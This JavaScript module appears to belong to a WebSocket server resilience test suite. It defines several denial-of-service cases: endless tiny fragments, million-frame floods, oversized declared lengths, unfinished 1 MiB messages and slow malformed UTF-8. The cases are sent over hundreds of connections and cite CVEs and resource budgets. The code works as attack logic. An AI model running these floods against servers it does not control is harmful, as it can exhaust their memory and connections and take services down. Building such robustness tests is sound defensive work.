/** Attacks with messages that are long in coming, or never end. */
import { crowd, describeCrowd } from "../wire/crowd.js";
import { frame, frameHeader, opcode, repeated } from "../wire/frames.js";
import { pause, writeAll } from "../wire/http1.js";

/** @typedef {import("../attack.js").Attack} Attack */

const MIB = 1 << 20;

/** @type {Attack} */
export const tinyFragments = {
  name: "messages of one-byte fragments that never end",
  sources: ["CVE-2026-48779", "ws#2331", "budget: fragments of a message"],
  over: ["1.1", "2.0"],
  connections: 100,
  async run(context) {
    const first = frame({ opcode: opcode.text, fin: false, payload: "x" });
    const more = repeated(frame({ opcode: opcode.continuation, fin: false, payload: "y" }), 4096);
    const members = await crowd(context, async ({ socket }) => {
      let goesOn = await writeAll(socket, first, context.signal);
      while (goesOn) goesOn = await writeAll(socket, more, context.signal);
    });
    return { seen: describeCrowd(members) };
  },
};

/** @type {Attack} */
export const heldFragments = {
  name: "16,000 one-byte fragments on each connection, then nothing",
  sources: ["ws#2331", "budget: incomplete messages of the process"],
  over: ["1.1", "2.0"],
  connections: 500,
  async run(context) {
    const bytes = Buffer.concat([
      frame({ opcode: opcode.binary, fin: false, payload: "x" }),
      repeated(frame({ opcode: opcode.continuation, fin: false, payload: "y" }), 16_000),
    ]);
    const members = await crowd(context, ({ socket }) => writeAll(socket, bytes, context.signal));
    await pause(60_000, context.signal);
    return { seen: describeCrowd(members) };
  },
};

/** @type {Attack} */
export const tinyChunks = {
  name: "a message of 1 MiB, one byte to a packet",
  sources: ["CVE-2026-48779", "budget: chunks of a message"],
  over: ["1.1", "2.0"],
  connections: 100,
  async run(context) {
    const { signal } = context;
    let packets = 0;
    const members = await crowd(context, async ({ socket }) => {
      await writeAll(socket, frameHeader({ opcode: opcode.binary, length: MIB }), signal);
      while (!signal.aborted && socket.writable) {
        for (let count = 0; count < 16; count++) socket.write("x");
        packets += 16;
        await new Promise((resolve) => setImmediate(resolve));
        if (socket.writableNeedDrain) await writeAll(socket, "", signal);
      }
    });
    return { seen: `${packets} packets; ${describeCrowd(members)}` };
  },
};

/** @type {Attack} */
export const emptyContinuations = {
  name: "a million empty continuation frames",
  sources: ["CVE-2026-12151", "budget: fragments of a message"],
  over: ["1.1", "2.0"],
  connections: 20,
  async run(context) {
    const first = frame({ opcode: opcode.text, fin: false });
    const more = repeated(frame({ opcode: opcode.continuation, fin: false }), 10_000);
    let most = 0;
    const members = await crowd(context, async ({ socket }) => {
      let goesOn = await writeAll(socket, first, context.signal);
      for (let sent = 0; goesOn && sent < 1_000_000; sent += 10_000) {
        goesOn = await writeAll(socket, more, context.signal);
        most = Math.max(most, sent);
      }
    });
    return { seen: `${most} went out at the most on one connection; ${describeCrowd(members)}` };
  },
};

/** Where a message stops: a byte before its end, in one frame or as the fragments of one.
 * @param {boolean} fragmented */
function unfinished(fragmented) {
  const whole = frame({ opcode: opcode.binary, payload: Buffer.alloc(MIB, "x") });
  if (!fragmented) return whole.subarray(0, -1);
  const first = frame({ opcode: opcode.binary, fin: false, payload: Buffer.alloc(64 << 10, "x") });
  const more = frame({ opcode: opcode.continuation, fin: false, payload: Buffer.alloc(64 << 10, "x") });
  return Buffer.concat([first, repeated(more, 14), more.subarray(0, -1)]);
}

/** @type {Attack} */
export const unfinishedMessages = {
  name: "messages of 1 MiB that lack their last byte",
  sources: ["ws#2331", "budget: incomplete messages of the process"],
  over: ["1.1", "2.0"],
  connections: 1000,
  async run(context) {
    const bytes = [unfinished(false), unfinished(true)];
    let taken = 0;
    const members = await crowd(context, async ({ socket, index }) => {
      if (await writeAll(socket, bytes[index & 1] ?? "", context.signal)) taken++;
    });
    await pause(60_000, context.signal);
    return { seen: `${taken} were taken whole; ${describeCrowd(members)}` };
  },
};

/** @type {Attack} */
export const declaredOnly = {
  name: "headers that declare 1 MiB, and no payload",
  sources: ["CVE-2016-10542", "budget: incomplete messages"],
  over: ["1.1", "2.0"],
  connections: 2000,
  async run(context) {
    const header = frameHeader({ opcode: opcode.binary, length: MIB - 1 });
    const bytes = Buffer.concat([header, Buffer.from("x")]);
    const members = await crowd(context, ({ socket }) => writeAll(socket, bytes, context.signal));
    await pause(60_000, context.signal);
    return { seen: describeCrowd(members) };
  },
};

/** @type {Attack} */
export const limitAcrossFragments = {
  name: "fragments that are small each and 200 MiB together",
  sources: ["CVE-2016-10542", "undici b4c287b", "budget: message bytes"],
  over: ["1.1", "2.0"],
  connections: 8,
  async run(context) {
    const piece = Buffer.alloc(256 << 10, "x");
    const first = frame({ opcode: opcode.text, fin: false, payload: piece });
    const more = frame({ opcode: opcode.continuation, fin: false, payload: piece });
    const last = frame({ opcode: opcode.continuation, payload: piece });
    let most = 0;
    const members = await crowd(context, async ({ socket }) => {
      let goesOn = await writeAll(socket, first, context.signal);
      for (let sent = piece.length; goesOn && sent < 200 * MIB; sent += piece.length) {
        goesOn = await writeAll(socket, more, context.signal);
        most = Math.max(most, sent);
      }
      await writeAll(socket, last, context.signal);
    });
    return { seen: `${Math.round(most / MIB)} MiB went out at the most; ${describeCrowd(members)}` };
  },
};

/** Characters of up to four bytes, and then three bytes of one whose last is wrong (RFC 6455 §8.1). */
const BAD_TEXT = Buffer.concat([Buffer.from("Größe 😀 "), Buffer.from([0xf0, 0x9f, 0x98, 0x41]), Buffer.from("end")]);
/** Byte by byte as one frame, and as the fragments of one message. */
const BAD_TEXTS = [
  [...frame({ opcode: opcode.text, payload: BAD_TEXT })].map((byte) => Buffer.of(byte)),
  [...BAD_TEXT].map((byte, at) => {
    const kind = at === 0 ? opcode.text : opcode.continuation;
    return frame({ opcode: kind, fin: at === BAD_TEXT.length - 1, payload: Buffer.of(byte) });
  }),
];

const LONGEST = Math.max(...BAD_TEXTS.map(({ length }) => length));
/** How long the sending and the server's reaction may take. */
const SLOW_TEXT_MS = 6000;

/** @type {Attack} */
export const slowBadUtf8 = {
  name: "malformed UTF-8 in a slow stream",
  sources: ["RFC 6455 §8.1", "budget: incomplete messages"],
  over: ["1.1", "2.0"],
  connections: 200,
  async run(context) {
    const members = await crowd(context, () => Promise.resolve());
    const patience = AbortSignal.timeout(SLOW_TEXT_MS);
    for (let at = 0; at < LONGEST; at++) {
      for (const { socket, index, over } of members) {
        const piece = BAD_TEXTS[index & 1]?.[at];
        if (piece !== undefined && !over && socket.writable) socket.write(piece);
      }
      await pause(20, patience);
    }
    const isOpen = (/** @type {import("../wire/crowd.js").Member} */ one) => !one.over && one.closeCode === undefined;
    while (members.some(isOpen) && !patience.aborted) await pause(50, patience);
    const echoed = members.filter(({ messages }) => messages.length > 0).length;
    const others = members.filter(({ closeCode }) => closeCode !== 1007).length;
    const seen = describeCrowd(members);
    if (echoed > 0) return { seen, failed: `${echoed} malformed texts were echoed` };
    return others === 0 ? { seen } : { seen, failed: `${others} connections were not closed with 1007` };
  },
};
